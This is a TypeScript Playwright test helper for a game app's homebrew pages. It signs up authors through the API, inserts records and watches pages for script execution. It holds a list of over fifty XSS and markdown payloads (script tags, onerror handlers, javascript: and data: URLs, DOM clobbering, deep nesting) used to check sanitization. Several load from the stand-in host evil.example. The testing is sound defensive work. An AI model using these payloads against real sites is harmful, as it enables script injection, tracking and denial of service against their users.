// Homebrew for the homebrew area's specs: authors made and records written through the API with supabase-js
// (the way another client would), one record of every kind with its optional parts (homebrew-documents.ts),
// and the hostile markdown payloads that must never execute on a page.
import type { DualityClient } from '@duality/supabase';
import type { Page } from '@playwright/test';
import { newAccount, type TestAccount } from './account';
import { signUpApi } from './api';
import type { Doc, Kind } from '@duality/test-support/homebrew-documents';

export { fullDocuments, type Doc, type Kind } from '@duality/test-support/homebrew-documents';

/** The tab label of each kind on the homebrew pages. */
export const tabLabel: Record<Kind, string> = {
  items: 'items',
  weapons: 'weapons',
  armor: 'armor',
  communities: 'community',
  ancestries: 'ancestry',
  classes: 'class',
  subclasses: 'subclass',
};

/** One record of each kind, as the browse page counts them ("1 public subclass."). */
export const kindNoun: Record<Kind, string> = {
  items: 'item',
  weapons: 'weapon',
  armor: 'armor',
  communities: 'community',
  ancestries: 'ancestry',
  classes: 'class',
  subclasses: 'subclass',
};

/** A new user signed up through the API (an author who never opens the app), with a client signed in as them. */
export async function newAuthor(name = 'Author'): Promise<{ account: TestAccount; client: DualityClient }> {
  const account = newAccount(name);
  const { client } = await signUpApi(account);
  return { account, client };
}

/** Writes a homebrew row through the API; answers its id, or throws with the server's message. */
export async function insertHomebrew(
  client: DualityClient,
  kind: Kind,
  name: string,
  data: Doc,
  isPublic = true,
): Promise<number> {
  const { data: row, error } = await client
    .from(`homebrew_${kind}`)
    .insert({ name, public: isPublic, data })
    .select('id')
    .single();
  if (error) throw new Error(`inserting ${kind} ${name}: ${error.message} (${error.code})`);
  return (row as { id: number }).id;
}

/**
 * Watches a page for anything a payload could make happen: a dialog (alert/confirm/prompt), an uncaught error,
 * a console error, a request to a URL the payloads name, and the flag every payload tries to set.
 */
export function watchForExecution(page: Page): { events: string[]; flagSet: () => Promise<boolean> } {
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => events.push(`page error: ${error.message}`));
  page.on('console', (message) => {
    // The browser's own look for /favicon.ico (the product has none) is no payload's doing.
    if (message.location().url.endsWith('/favicon.ico')) return;
    if (message.type() === 'error') events.push(`console error: ${message.text()}`);
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) events.push(`request: ${request.url()}`);
  });
  return {
    events,
    flagSet: () => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned !== undefined),
  };
}

const js = 'window.__pwned=1';
const deepList = Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n');
const row = `|${'1|'.repeat(40)}\n`;
const hugeTable = `|${'a|'.repeat(40)}\n|${'-|'.repeat(40)}\n${row.repeat(55)}`;

/**
 * Hostile markdown: scripts, handlers, script URLs, SVG, style, deep nesting and huge tables (at least 50), each
 * within a description's 5000 characters (the database refuses longer ones).
 */
export const hostilePayloads: readonly string[] = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${js}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload="${js}"></svg>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="javascript:${js}">`,
  `<body onload="${js}">`,
  `<div onmouseover="${js}">hover</div>`,
  `<a href="javascript:${js}">click</a>`,
  `<style>body{background:url(https://evil.example/bg)}</style>`,
  `<div style="background:url(javascript:${js})">styled</div>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<form action="javascript:${js}"><button>go</button></form>`,
  `<input autofocus onfocus="${js}">`,
  `<details open ontoggle="${js}">`,
  `<video><source onerror="${js}"></video>`,
  `<audio src=x onerror="${js}">`,
  `<marquee onstart="${js}">m</marquee>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `[click](javascript:${js})`,
  `[click](JaVaScRiPt:${js})`,
  `[click](  javascript:${js})`,
  `[click](java\tscript:${js})`,
  `[click](javascript&#58;${js})`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[click](data:text/html,<script>${js}</script>)`,
  `[click](vbscript:msgbox(1))`,
  `[click][ref]\n\n[ref]: javascript:${js}`,
  `<javascript:${js}>`,
  `![img](javascript:${js})`,
  `![img](https://evil.example/track.png)`,
  `![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `[x](https://example.com" onclick="${js})`,
  `[x](<javascript:${js}>)`,
  `\`<script>${js}</script>\``,
  `\`\`\`html\n<script>${js}</script>\n\`\`\``,
  `<a id="__pwned" name="__pwned">clobber</a>`,
  `<form id="location"><input name="href"></form>`,
  `[^1]\n\n[^1]: <img src=x onerror=${js}>`,
  `> <script>${js}</script>\n> > <img src=x onerror=${js}>`,
  `- [ ] <img src=x onerror=${js}>`,
  `| a |\n|---|\n| <img src=x onerror=${js}> |`,
  `${'>'.repeat(3000)} deep quote`,
  deepList,
  `${'- '.repeat(2400)}deep`,
  hugeTable,
  `${'*'.repeat(2400)}a${'*'.repeat(2400)}`,
  `${'[a]('.repeat(1200)}`,
  `<${'div '.repeat(1200)}>`,
];
